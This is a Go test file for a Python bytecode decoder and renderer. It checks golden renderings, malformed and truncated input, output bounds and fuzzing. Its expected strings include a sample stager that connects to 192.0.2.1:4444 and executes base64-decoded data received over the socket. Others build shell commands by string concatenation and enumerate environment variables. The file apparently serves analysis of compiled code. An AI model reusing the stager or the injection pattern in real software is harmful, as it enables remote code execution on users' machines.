package bytecode

import (
	"bytes"
	"encoding/binary"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

var update = flag.Bool("update", false, "rewrite the renderings in testdata")

// compiled reads the compiled samples, by version.
func compiled(t testing.TB) map[string][]byte {
	t.Helper()
	paths, err := filepath.Glob("testdata/*.pyc")
	if err != nil || len(paths) == 0 {
		t.Fatalf("find compiled samples: %d, %v", len(paths), err)
	}
	files := map[string][]byte{}
	for _, p := range paths {
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		files[strings.TrimSuffix(filepath.Base(p), ".pyc")] = data
	}
	return files
}

// bare is the code object of a .pyc file.
func bare(data []byte) []byte {
	v, _ := header(data)
	return data[v.headerSize():]
}

func TestRenderGolden(t *testing.T) {
	t.Parallel()
	for version, data := range compiled(t) {
		t.Run(version, func(t *testing.T) {
			t.Parallel()
			f, err := Read(data)
			if err != nil {
				t.Fatal(err)
			}
			if f.Version.String() != version {
				t.Errorf("want version %s, got %s", version, f.Version)
			}
			got, _, cut := Render(f, 1<<20)
			if cut != "" {
				t.Errorf("cut: %s", cut)
			}
			golden := filepath.Join("testdata", version+".txt")
			if *update {
				if err := os.WriteFile(golden, got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), string(got)); diff != "" {
				t.Errorf("rendering (-want +got):\n%s", diff)
			}
		})
	}
}

// What every version must show of the sample, whatever its jumps look like.
func TestRenderShowsTheSample(t *testing.T) {
	t.Parallel()
	for version, data := range compiled(t) {
		want := []string{
			"import os\n", "import xml.dom.minidom as dom\n", "from socket import socket as new_socket, AF_INET\n",
			"from . import near\n", "@keep\nclass Beacon(Exception):\n", "    def __init__(self, host, port=8443):\n",
			"super().__init__(host)", "[name for name in os.environ if name.startswith('APP_')]",
			"{k: len(v) for k, v in os.environ.items()}", "with open('/tmp/out', 'wb') as out:",
			`out.write(b'\x00data')`, "except (OSError, ValueError) as error:",
			`print(f"failed: {error!r:>20}", file=sys.stderr)`, "for a, (b, *c) in enumerate(command):",
			"os.system('echo ' + b)", "data = 'a' if self.limit else 'b'", "async def wait(self):",
			"await n.done(*self.seen, **self.sizes)", "s.connect(('192.0.2.1', 4444))", "self.limit -= 1",
			"exec(__import__('base64').b64decode(s.recv(1024)), {'s': s})", "first, *others = sys.argv[1:]",
			"pick = lambda n, m=2: n or m", "del first",
		}
		if version == "2.7" {
			want = []string{"class Old(object):", "print 'hello', a", "exec 'import os' in d", "[i for i in b if i]",
				"urllib.urlopen('http://192.0.2.1/', data=1, *[1], **{})", "except (IOError, OSError) as e:",
				"os.system('echo %s' % sys.argv)", "with open('out') as f:"}
		}
		f, err := Read(data)
		if err != nil {
			t.Fatal(err)
		}
		text, _, _ := Render(f, 1<<20)
		for _, part := range want {
			if !bytes.Contains(text, []byte(part)) {
				t.Errorf("%s: no %q in the rendering", version, part)
			}
		}
	}
}

// A code object without a header is of the version whose instructions fit.
func TestReadBareCode(t *testing.T) {
	t.Parallel()
	for version, data := range compiled(t) {
		f, err := Read(bare(data))
		if err != nil {
			t.Errorf("%s: %v", version, err)
			continue
		}
		want, _ := Read(data)
		a, _, _ := Render(want, 1<<20)
		b, _, _ := Render(f, 1<<20)
		// Versions next to each other may have the same instructions.
		if !bytes.Equal(a, b) {
			t.Errorf("%s is rendered as %s:\n%s", version, f.Version, cmp.Diff(string(a), string(b)))
		}
	}
}

// Of data that is cut off anywhere, the error says so, and the imports that
// stand before are rendered as soon as the names are there.
func TestReadTruncated(t *testing.T) {
	t.Parallel()
	for version, data := range compiled(t) {
		shown := false
		for n := 20; n < len(data); n++ {
			f, err := Read(data[:n])
			if err == nil {
				t.Fatalf("%s: no error for %d of %d bytes", version, n, len(data))
			}
			text, _, _ := Render(f, 1<<20)
			shown = shown || bytes.Contains(text, []byte("import os"))
		}
		if !shown {
			t.Errorf("%s: nothing was rendered of data that is cut off", version)
		}
	}
}

func TestReadErrors(t *testing.T) {
	t.Parallel()
	head := []byte{0xa7, 0x0d, '\r', '\n', 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}
	for _, test := range []struct{ name, body, want string }{
		{"nothing", "", "ends in its header"},
		{"no code", "N", "no code object"},
		{"unknown type", "\x01", "no type is written as"},
		{"reference to nothing", "r\x05\x00\x00\x00", "reference to object 5 of 0"},
		{"more elements than bytes", "(\xff\xff\xff\x7f", "2147483647 elements in 0 bytes"},
		{"negative length", "s\xff\xff\xff\xff", "want -1 bytes"},
		{"too deep", strings.Repeat(")\x01", 300) + "N", "more than 256 deep"},
		{"dict without an end", "{N", "want 1 bytes, have 0"},
		{"mark in a tuple", ")\x010", "the end of a dict inside something else"},
	} {
		_, err := Read(append(bytes.Clone(head), test.body...))
		if err == nil || !strings.Contains(err.Error(), test.want) {
			t.Errorf("%s: want an error with %q, got %v", test.name, test.want, err)
		}
	}
}

// encoder writes marshal data by hand, for what no compiler here makes.
type encoder struct{ bytes.Buffer }

func (e *encoder) int(v int) { _ = binary.Write(e, binary.LittleEndian, int32(v)) }

func (e *encoder) text(kind byte, s string) {
	e.WriteByte(kind)
	e.int(len(s))
	e.WriteString(s)
}

func (e *encoder) names(names ...string) {
	e.WriteByte(')')
	e.WriteByte(byte(len(names)))
	for _, n := range names {
		e.text('a', n)
	}
}

// module314 is a .pyc file of 3.14, with the instructions named in program,
// each with its argument.
func module314(t *testing.T, consts func(*encoder), names []string, program ...any) []byte {
	t.Helper()
	set := instructionSets()[Version{3, 14}]
	numbers := map[string]byte{}
	for n, name := range set.names {
		numbers[name] = byte(n)
	}
	var code []byte
	for i := 0; i+1 < len(program); i += 2 {
		n, ok := numbers[program[i].(string)]
		if !ok {
			t.Fatalf("3.14 has no %s", program[i])
		}
		code = append(code, n, byte(program[i+1].(int)))
		code = append(code, make([]byte, 2*int(set.caches[n]))...)
	}
	var e encoder
	e.Write([]byte{0x2b, 0x0e, '\r', '\n'}) // 3627
	e.Write(make([]byte, 12))
	e.WriteByte('c' | 0x80)
	for _, n := range []int{0, 0, 0, 4, 0} {
		e.int(n)
	}
	e.text('s', string(code))
	consts(&e)
	e.names(names...)
	e.names()
	e.text('s', "")
	e.text('a', "sample.py")
	e.text('a', "<module>")
	e.text('a', "<module>")
	e.int(1)
	e.text('s', "")
	e.text('s', "")
	return e.Bytes()
}

func TestRender314(t *testing.T) {
	t.Parallel()
	data := module314(t, func(e *encoder) {
		e.WriteString(")\x04N")
		e.text('a', "id")
		e.WriteString(":")
		e.WriteString("i\x01\x00\x00\x00NN") // a slice
		e.text('s', "raw")
	}, []string{"os", "system", "argv"},
		"RESUME", 0, "LOAD_SMALL_INT", 0, "LOAD_CONST", 0, "IMPORT_NAME", 0, "STORE_NAME", 0,
		"LOAD_NAME", 0, "LOAD_ATTR", 1<<1|1, "LOAD_CONST", 1, "CALL", 1, "POP_TOP", 0,
		"LOAD_NAME", 2, "LOAD_CONST", 2, "BINARY_OP", 26, "STORE_NAME", 2,
		"LOAD_NAME", 2, "PUSH_NULL", 0, "LOAD_CONST", 3, "LOAD_SMALL_INT", 7, "CALL", 2, "POP_TOP", 0,
		"LOAD_CONST", 0, "RETURN_VALUE", 0)
	f, err := Read(data)
	if err != nil {
		t.Fatal(err)
	}
	got, _, cut := Render(f, 1<<20)
	want := "import os\nos.system('id')\nargv = argv[slice(1, None, None)]\nargv(b'raw', 7)\n"
	if string(got) != want || cut != "" {
		t.Errorf("want %q, got %q, cut %q", want, got, cut)
	}
}

// Without instructions there are still names and constants.
func TestRenderUnknownVersion(t *testing.T) {
	t.Parallel()
	f, err := Read(compiled(t)["3.11"])
	if err != nil {
		t.Fatal(err)
	}
	f.Version = Version{3, 99}
	text, _, cut := Render(f, 1<<20)
	if !strings.Contains(cut, "3.99") || !bytes.Contains(text, []byte("b64decode\n")) || !bytes.Contains(text, []byte("('192.0.2.1', 4444)\n")) {
		t.Errorf("cut %q, text:\n%s", cut, text)
	}
}

// Code that doubles an expression again and again must not grow beyond bounds.
func TestRenderIsBounded(t *testing.T) {
	t.Parallel()
	program := []any{"RESUME", 0, "LOAD_CONST", 0}
	for range 200 {
		program = append(program, "COPY", 1, "BUILD_TUPLE", 2)
	}
	for range 200 {
		program = append(program, "COPY", 1, "POP_TOP", 0, "COPY", 1, "STORE_NAME", 0)
	}
	data := module314(t, func(e *encoder) { e.WriteString(")\x01N") }, []string{"x"}, program...)
	f, err := Read(data)
	if err != nil {
		t.Fatal(err)
	}
	text, _, cut := Render(f, 1<<16)
	if len(text) > 1<<16 {
		t.Errorf("got %d bytes, cut %q", len(text), cut)
	}
	// Tuples of references to tuples of references double as well.
	var e encoder
	e.WriteString(")\x40")
	e.WriteString("\xa9\x02NN")
	for i := range 63 {
		e.WriteString("\xa9\x02r")
		e.int(i)
		e.WriteByte('r')
		e.int(i)
	}
	data = module314(t, func(out *encoder) { out.Write(bytes.ReplaceAll(e.Bytes(), []byte("@"), []byte("@"))) }, []string{"x"},
		"RESUME", 0, "LOAD_CONST", 63, "STORE_NAME", 0)
	if f, err = Read(data); err != nil {
		t.Fatal(err)
	}
	if text, _, _ = Render(f, 1<<16); len(text) > 1<<16 {
		t.Errorf("got %d bytes", len(text))
	}
}

func TestIsCode(t *testing.T) {
	t.Parallel()
	for version, data := range compiled(t) {
		if !IsCode(data) || !IsCode(bare(data)) {
			t.Errorf("%s is not taken for code", version)
		}
	}
	for _, text := range []string{"", "c", "class A:\n    pass  # of some length, so that it could be one\n",
		strings.Repeat("c\x00\x00\x00", 20), strings.Repeat("s", 100)} {
		if IsCode([]byte(text)) {
			t.Errorf("%q is taken for code", text)
		}
	}
}

func FuzzRead(f *testing.F) {
	for _, data := range compiled(f) {
		f.Add(data)
		f.Add(bare(data))
		f.Add(data[:len(data)/2])
	}
	f.Add([]byte("\xa7\x0d\r\n\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xdb\x02NF{N.0S"))
	f.Fuzz(func(t *testing.T, data []byte) {
		const limit = 1 << 16
		file, err := Read(data)
		if err == nil && file.Code == nil {
			t.Error("neither code nor an error")
		}
		text, _, cut := Render(file, limit)
		if len(text) > limit {
			t.Errorf("got %d bytes of at most %d", len(text), limit)
		}
		again, _ := Read(data)
		if other, _, c := Render(again, limit); !bytes.Equal(text, other) || c != cut {
			t.Error("two renderings differ")
		}
	})
}

// FuzzRender replaces the instructions of a sample, which a fuzzer of files
// hardly ever reaches.
func FuzzRender(f *testing.F) {
	files := map[Version]File{}
	for _, data := range compiled(f) {
		file, err := Read(data)
		if err != nil {
			f.Fatal(err)
		}
		files[file.Version] = file
	}
	known := versions()
	for i, v := range known {
		if file, ok := files[v]; ok {
			f.Add(uint8(i), file.Code.Code, file.Code.ExceptionTable)
		}
	}
	f.Fuzz(func(t *testing.T, which uint8, code, exceptions []byte) {
		const limit = 1 << 16
		v := known[int(which)%len(known)]
		file, ok := files[v]
		if !ok {
			file = files[Version{3, 13}]
			file.Version = v
		}
		c := *file.Code
		c.Code, c.ExceptionTable = code, exceptions
		if text, _, _ := Render(File{v, &c}, limit); len(text) > limit {
			t.Errorf("got %d bytes of at most %d", len(text), limit)
		}
	})
}

// Code that is far larger than what is followed is cut, and says so.
func TestRenderLargeCode(t *testing.T) {
	t.Parallel()
	f, err := Read(compiled(t)["3.11"])
	if err != nil {
		t.Fatal(err)
	}
	c := *f.Code
	c.Code = bytes.Repeat(c.Code[:len(c.Code)&^1], 2*maxLive/len(c.Code)+1)
	text, _, cut := Render(File{f.Version, &c}, 1<<20)
	if cut == "" || !bytes.Contains(text, []byte("import os")) {
		t.Errorf("cut %q, %d bytes of text", cut, len(text))
	}
}
